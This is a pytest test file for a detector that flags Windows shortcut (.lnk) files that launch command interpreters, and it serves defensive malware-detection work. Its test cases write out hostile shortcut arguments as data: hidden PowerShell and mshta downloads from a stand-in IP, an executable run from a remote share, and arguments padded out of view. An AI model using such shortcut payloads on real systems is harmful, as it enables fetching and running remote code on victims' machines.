"""shortcut.command: shortcuts that run a command."""

import pytest

from gifthorse.inspect.detectors import shortcut_command as detector
from gifthorse.model.findings import Severity
from tests.samples.files import findings_of, item_of, severities, shortcut


@pytest.mark.parametrize(
    ("target", "arguments"),
    [
        ("C:\\Windows\\System32\\cmd.exe", "/c start pictures\\x.exe & explorer pictures"),
        ("C:\\WINDOWS\\system32\\WindowsPowerShell\\v1.0\\powershell.exe", "-w hidden -c iwr http://198.51.100.7/a"),
        ("C:\\Windows\\System32\\mshta.exe", "http://198.51.100.7/a.hta"),
        ("C:\\Windows\\System32\\rundll32.exe", "thumbs.db,Start"),
        ("C:\\Windows\\System32\\wscript.exe", "photos\\.trash\\a.vbs"),
        ("C:\\Windows\\System32\\conhost.exe", "--headless cmd /c a.bat"),
        ("C:\\Windows\\explorer.exe", "\\\\198.51.100.7\\share\\a.exe"),
    ],
)
def test_an_interpreter_with_something_to_run_is_high(target: str, arguments: str) -> None:
    (finding,) = findings_of(detector, shortcut(target, arguments), "Photos.lnk")
    assert finding.severity is Severity.HIGH
    assert finding.evidence[0].offset is not None


def test_the_offset_points_at_the_arguments() -> None:
    body = shortcut("C:\\Windows\\System32\\cmd.exe", "/c marker.exe")
    (finding,) = findings_of(detector, body, "a.lnk")
    offset = finding.evidence[0].offset
    assert offset is not None
    assert body[offset : offset + 26].decode("utf-16-le") == "/c marker.exe"


def test_an_environment_variable_hides_no_interpreter() -> None:
    assert severities(detector, shortcut("", "/c a.exe", environment="%ComSpec%"), "a.lnk") == [Severity.HIGH]


def test_arguments_pushed_out_of_sight_are_high_whatever_the_program() -> None:
    assert severities(detector, shortcut("E:\\viewer.exe", " " * 300 + "run"), "a.lnk") == [Severity.HIGH]


@pytest.mark.parametrize(
    ("target", "arguments", "expected"),
    [
        ("C:\\Users\\a\\Documents\\offer.pdf", "", []),
        ("C:\\Program Files\\Editor\\editor.exe", "", []),
        ("E:\\tools\\viewer.exe", "", [Severity.LOW]),
        ("C:\\Program Files\\Browser\\browser.exe", "--profile work", [Severity.LOW]),
        ("C:\\Windows\\explorer.exe", "/e,C:\\Data", [Severity.LOW]),
        ("C:\\Python\\python.exe", "-m idlelib", [Severity.LOW]),
    ],
)
def test_ordinary_shortcuts_weigh_little(target: str, arguments: str, expected: list[Severity]) -> None:
    assert severities(detector, shortcut(target, arguments), "a.lnk") == expected


def test_the_target_is_passed_on_for_the_whole_medium() -> None:
    facts = detector.about(item_of(shortcut("C:\\Windows\\System32\\cmd.exe", "/c a"), "a.lnk"))
    assert facts == {"shortcut-target": "C:\\Windows\\System32\\cmd.exe", "shortcut-arguments": "/c a"}


@pytest.mark.parametrize(("program", "arguments"), [("ftp.exe", "-s:notes.txt"), ("OpenSSH\\ssh.exe", "-o ProxyCommand=calc .")])
def test_programs_that_read_their_commands_from_elsewhere_are_high(program: str, arguments: str) -> None:
    (severity,) = severities(detector, shortcut(f"C:\\Windows\\System32\\{program}", arguments), "a.lnk")
    assert severity is Severity.HIGH
